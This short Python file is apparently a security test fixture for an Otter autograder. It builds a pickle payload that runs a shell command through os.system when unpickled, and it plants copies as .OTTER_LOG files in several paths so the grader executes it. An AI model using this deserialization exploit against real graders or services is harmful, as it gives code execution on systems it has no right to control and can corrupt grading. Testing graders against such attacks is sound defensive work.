"""Submitted as a grader.export() zip whose .OTTER_LOG is a pickle payload (it runs
`touch /tmp/pwned-<uid>` when unpickled; stock Otter dill-loads that log while grading).
The notebook also drops copies of the payload next to itself.

assignment: ffi_lowering
submit: zip_with_otter_log
score: 0
markers:
  - /tmp/pwned-0
"""
import os, pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-$(id -u)",))


for path in [".OTTER_LOG", "../.OTTER_LOG", "/autograder/submission/.OTTER_LOG", "/tmp/.OTTER_LOG"]:
    try:
        with open(path, "wb") as f:
            pickle.dump(Payload(), f)
    except OSError:
        pass
